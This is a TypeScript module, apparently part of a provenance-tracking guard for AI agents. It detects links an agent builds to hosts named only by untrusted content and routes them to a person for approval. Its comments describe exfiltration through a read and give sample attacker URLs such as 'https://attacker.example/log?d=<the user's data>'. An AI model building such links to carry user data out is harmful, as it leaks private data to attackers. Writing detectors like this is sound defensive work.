/**
 * Exfiltration through a read: a link the agent built on a host that only untrusted text named, or (with
 * `provenance.unknown: ask`) that nobody named. Reading a page changes nothing, but a link carries whatever the
 * agent writes into it to that host (`https://attacker.example/log?d=<the user's data>`), so such a read is
 * judged like a send.
 */
import type { PieceProvenance } from "./provenance.js";
import { urlHost } from "./value-tokens.js";

/** Whether a link carries more than its host: a path other than `/`, a query or a fragment. */
function carriesData(url: string): boolean {
  const rest = url.replace(/^[a-z][a-z0-9+.-]*:\/\//i, "");
  const at = rest.search(/[/?#]/);
  return at !== -1 && !/^\/*$/.test(rest.slice(at));
}

/**
 * The links among `pieces` that nobody supplied (`unknown`: the agent wrote them), that carry a path or a
 * query, and whose host has provenance `status`: `tainted` (only untrusted content named it) or `unknown`
 * (nobody did). A link without a scheme (`attacker.example/verify?p=…`, a whole argument) has its host judged
 * by `hostStatus`. Each is returned as a `url` piece with its host's provenance, for the question a person
 * answers.
 */
export function builtLinks(
  pieces: readonly PieceProvenance[],
  hostStatus: (host: string) => PieceProvenance | undefined,
  status: "tainted" | "unknown",
): PieceProvenance[] {
  const out: PieceProvenance[] = [];
  // the host pieces by argument path and host, looked up once per link (not a scan of every piece per link)
  const hosts = new Map<string, PieceProvenance>();
  for (const p of pieces) {
    if (p.kind !== "host") continue;
    const key = `${JSON.stringify(p.path)} ${p.piece}`;
    if (!hosts.has(key)) hosts.set(key, p);
  }
  for (const link of pieces) {
    if (link.status !== "unknown" || !carriesData(link.piece)) continue;
    const host = urlHost(link.piece);
    if (host === undefined) continue;
    const named =
      link.kind === "url"
        ? hosts.get(`${JSON.stringify(link.path)} ${host}`)
        : link.kind === "value" && !/^[a-z][a-z0-9+.-]*:\/\//i.test(link.piece)
          ? hostStatus(host)
          : undefined;
    if (named?.status === status) out.push({ ...named, path: link.path, kind: "url", piece: link.piece });
  }
  return out;
}

/**
 * Whether arguments may hold a link at all (a cheap test before tracing them): a `/` after a dotted name, a
 * dotted address (`203.0.113.9/`) or a host of digits after `//` (`//0xcb007109/`, `//[2001:db8::1]/`).
 */
export function mayHoldLink(args: Readonly<Record<string, unknown>>): boolean {
  return /(?:[a-z0-9-]\.[a-z]{2,}|\d\.\d+|\/\/(?:[0-9a-fx.]+|\[[0-9a-f:.]+\]))(?::\d+)?[/?#]/i.test(
    JSON.stringify(args),
  );
}
